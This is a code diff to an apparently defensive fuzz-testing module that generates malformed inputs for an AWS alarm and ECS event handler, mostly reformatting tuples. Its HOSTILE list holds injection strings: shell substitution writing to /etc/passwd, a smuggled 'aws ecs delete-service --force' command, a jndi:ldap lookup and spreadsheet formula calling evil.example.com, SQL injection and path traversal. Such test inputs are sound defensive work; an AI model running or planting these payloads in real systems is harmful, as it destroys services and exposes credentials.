@@ -45,7 +45,7 @@ HOSTILE = (
     "$(reboot) `reboot` ; reboot & reboot | reboot > /etc/passwd",
     "orders' --profile prod; aws ecs delete-service --force 'x",
     "--cli-input-json file:///etc/passwd",
-    "=HYPERLINK(\"https://evil.example.com\")",
+    '=HYPERLINK("https://evil.example.com")',
     "{{7*7}} ${jndi:ldap://evil.example.com/x} %s %n %(a)s {0.__class__}",
     "' OR '1'='1",
     "../../../etc/passwd",
@@ -95,8 +95,26 @@ NUMBERS: tuple[Any, ...] = (
     -(10**400),
 )
 
-ACCOUNTS = ("999999999999", "000000000000", "11112222333", "1111222233334", " 111122223333", "１１１１２２２２３３３３", 111122223333)
-REGIONS = ("us-east-1", "eu-west-1", "eu-central-9", "cn-north-1", "us-gov-west-1", "EU (Ireland)", "eu-central-1 ", "global", "EU-CENTRAL-1")
+ACCOUNTS = (
+    "999999999999",
+    "000000000000",
+    "11112222333",
+    "1111222233334",
+    " 111122223333",
+    "１１１１２２２２３３３３",
+    111122223333,
+)
+REGIONS = (
+    "us-east-1",
+    "eu-west-1",
+    "eu-central-9",
+    "cn-north-1",
+    "us-gov-west-1",
+    "EU (Ireland)",
+    "eu-central-1 ",
+    "global",
+    "EU-CENTRAL-1",
+)
 ARNS = (
     "arn:aws:cloudwatch:eu-central-1:999999999999:alarm:orders-cpu",
     "arn:aws:cloudwatch:us-east-1:111122223333:alarm:orders-cpu",
@@ -111,7 +129,19 @@ ARNS = (
     "arn:aws:ecs:eu-central-1:111122223333:",
     "arn:",
 )  # fmt: skip
-WORDS = ("ALARM", "OK", "INSUFFICIENT_DATA", "aws.ecs", "aws.cloudwatch", "aws.health", "STOPPED", "null", "{", "[]", "0")
+WORDS = (
+    "ALARM",
+    "OK",
+    "INSUFFICIENT_DATA",
+    "aws.ecs",
+    "aws.cloudwatch",
+    "aws.health",
+    "STOPPED",
+    "null",
+    "{",
+    "[]",
+    "0",
+)
 """Words that mean something, where something else should stand."""
 
 ORDERS = (
@@ -388,7 +418,7 @@ def _in_eventbridge(rng: Rng, value: Any) -> Any:
 
 
 def _in_a_list(rng: Rng, value: Any) -> Any:
-    return [value] * rng.choice((1, 2, 3, 500)) if len(json.dumps(value)) < 20_000 else [value]
+    return [value] * rng.choice((1, 1, 2, 2, 3, 3, 4, 10, 500)) if len(json.dumps(value)) < 20_000 else [value]
 
 
 def _as_text(rng: Rng, value: Any) -> Any:
@@ -436,7 +466,16 @@ def _single_quoted(rng: Rng, text: str) -> str:
     return text.replace('"', "'")
 
 
-_SPOILINGS: tuple[Callable[[Rng, str], str], ...] = (_cut, _cut, _twice, _flipped, _noise, _around, _after, _single_quoted)
+_SPOILINGS: tuple[Callable[[Rng, str], str], ...] = (
+    _cut,
+    _cut,
+    _twice,
+    _flipped,
+    _noise,
+    _around,
+    _after,
+    _single_quoted,
+)
 
 
 def _deep(rng: Rng) -> str:
